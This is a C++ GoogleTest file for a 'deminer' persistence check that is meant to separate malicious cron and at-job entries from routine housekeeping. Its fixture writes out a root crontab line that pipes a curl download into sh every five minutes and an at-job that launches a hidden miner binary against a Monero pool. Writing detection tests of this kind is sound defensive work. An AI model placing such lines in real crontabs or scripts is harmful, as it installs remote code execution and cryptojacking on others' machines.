#include <gtest/gtest.h>

#include "checks/test_facts.h"

namespace deminer {
extern const Check kPersistCron;
namespace {

TEST(PersistCronCheckTest, FlagsDroppersAndLeavesHousekeepingAlone) {
  Facts facts = BaseFacts();
  facts.persistence.push_back(
      MakeItem(PersistKind::kCron, "/etc/crontab",
               {{3, "*/5 * * * *", "root", "curl -fsSL http://127.0.0.1/x.sh | sh"},
                {4, "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly"},
                {5, "0 3 * * *", "root", "find /tmp -type f -mtime +7 -delete"}}));
  facts.persistence.push_back(
      MakeItem(PersistKind::kAtJob, "/var/spool/cron/atjobs/a0001",
               {{9, "", "", "/var/tmp/.x/javae -o pool.supportxmr.com:443"}}));
  const auto out = RunCheck(kPersistCron, facts);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].subject, "/etc/crontab:3");
  EXPECT_EQ(out[0].line, 3);
  EXPECT_EQ(out[0].severity, Severity::kHigh);
  EXPECT_EQ(out[0].evidence["reasons"][0]["what"], "download-pipe-shell");
  EXPECT_EQ(out[1].severity, Severity::kCritical);  // a miner on a pool
}

}  // namespace
}  // namespace deminer
